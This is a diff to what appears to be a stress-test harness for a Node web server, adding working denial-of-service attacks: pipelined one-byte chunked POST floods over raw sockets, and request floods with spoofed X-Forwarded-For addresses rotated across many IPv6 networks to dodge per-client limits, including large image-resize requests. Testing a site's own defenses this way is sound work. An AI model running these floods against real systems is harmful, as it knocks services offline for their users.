@@ -131,6 +131,33 @@ function multipart(fields) {
   };
 }
 
+/**
+ * Sends bodies of one byte a chunk, requests without waiting for the answers: Node takes each chunk apart.
+ * @param {number} connections
+ * @param {{atOnce: number, chunks: number}} how many requests on a connection, and how many chunks in each
+ */
+function tinyChunks(connections, { atOnce, chunks }) {
+  const one = `POST /talk/ HTTP/1.1\r\nHost: a\r\nX-Forwarded-For: ${CLIENT}\r\nTransfer-Encoding: chunked\r\n\r\n${'1\r\na\r\n'.repeat(chunks)}0\r\n\r\n`;
+  const all = one.repeat(atOnce);
+  const connect = () => {
+    const socket = net.connect(Number(port), hostname);
+    socket.on('data', () => {});
+    socket.on('error', ({ code }) => note(code));
+    socket.once('close', () => setTimeout(connect, 100));
+    const send = () => {
+      if (socket.destroyed) return;
+      sent += atOnce;
+      if (socket.write(all)) setImmediate(send);
+      else socket.once('drain', send);
+    };
+    socket.once('connect', send);
+  };
+  for (let i = 0; i < connections; i++) connect();
+}
+
+/** @returns {Record<string, string>} the header of one of 65,536 networks that are one customer's */
+const anyNetwork = () => ({ 'x-forwarded-for': `2001:db8:5:${randomBytes(2).toString('hex')}::1` });
+
 /** @param {string} url @param {number} width */
 const image = (url, width) => `/_next/image?url=${encodeURIComponent(url)}&w=${width}&q=75`;
 const REST_NAMES = ['rest_route', '_fields', '_envelope', '_jsonp', '_method', 'id', 'your-name'];
@@ -222,6 +249,18 @@ const attacks = {
   'all kinds at once': () => {
     for (const one of TOGETHER) attacks[one]?.();
   },
+  'chunks of one byte, pipelined': () => tinyChunks(20, { atOnce: 20, chunks: 490 }),
+  'a /48 that hangs up': () =>
+    keep(50, () => ask(`/huge/?${word()}`, { headers: anyNetwork(), hangUpAfterMs: 20 })),
+  'a /48 and redirects': () =>
+    keep(50, () =>
+      ask(`/1/${word()}${NEEDLES}/${'1'.repeat(2_000)}`.slice(0, 1_990), { headers: anyNetwork() }),
+    ),
+  'a /48 and queries': () => keep(50, () => ask(`/talk/?${word()}`, { headers: anyNetwork() })),
+  'a /48 and large new images': () =>
+    keep(50, () =>
+      ask(image(state.images[sent % state.images.length] ?? '', 3840), { headers: anyNetwork() }),
+    ),
   'a stored page, pipelined': () => pipeline(1, () => '/huge/', { atOnce: 900 }),
 };
 
